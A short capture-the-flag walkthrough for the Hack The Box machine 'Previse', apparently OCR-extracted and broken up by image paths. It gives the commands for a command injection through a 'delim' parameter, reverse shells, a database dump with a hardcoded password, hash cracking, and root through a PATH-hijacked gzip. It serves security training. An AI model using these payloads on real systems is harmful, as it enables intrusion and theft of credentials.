HTB: Previse
- TLDR -



nmap -sT -sV -A -v <ip> shows us ports 22 and 80.

gobuster dir -x .php,.txt,.html -u <ip> -w <wordlist> finds a couple files. The most relevant right now is "accounts.php". Going to any of these files results in a redirection to the login page.

Getting In:

Create an account by POSTing to the "accounts.php" page a new username, a password, and a confirmation of the password. We will use the credentials "addie:passie": curl -X POST -d 'username=addie&password=passie&confirm=passie' <ip>. Login to the site with out new account and navigate to "FILES". Download the "SITEBACKUP.ZIP" file, unzip, and check the "logs.php" source code. We are able to inject commands via the "delim" parameter in a POST request to this page. The curl command to accomplish this is: curl -X POST -d 'delim=space; $(<command>)'. Start a reverse shell back to our machine.

Getting User:

Going back to the zip file, we can dump the "config.php" file, disclosing the credentials to the MySQL database the site uses. Accessing the database allows us to obtain the hashed password of"m4lwhere"'s password: mysql -u root -p'mySQL_p@ssw0rd!:)' previse <<< 'SHOW TABLES; SELECT * FROM accounts WHERE username = 'm4lwhere';'. Using hashcat and the "rockyou.txt" wordlist we can crack this hash: hashcat -m500 -a 0 '<hash>' <wordlist>. Using this password, we can login to m4lwhere's account on the box via ssh. cat user.txt to get the user flag.

Getting Root:

sudo -l shows us the path to a script whichuses "gzip" to zip two files. It calls "gzip" relatively, meaning we can hijack the command to execute our own code.Move to a writable directory (/tmp) and create a file named "gzip". Inthe file, create a reverseshell back to our machine.Export the current directory to our PATH env: export PATH=/tmp:$PATH. Start a netcat listener on our machine and run the script as root. cat /root/root.txt to get root flag.

Last edit: 2021.08.20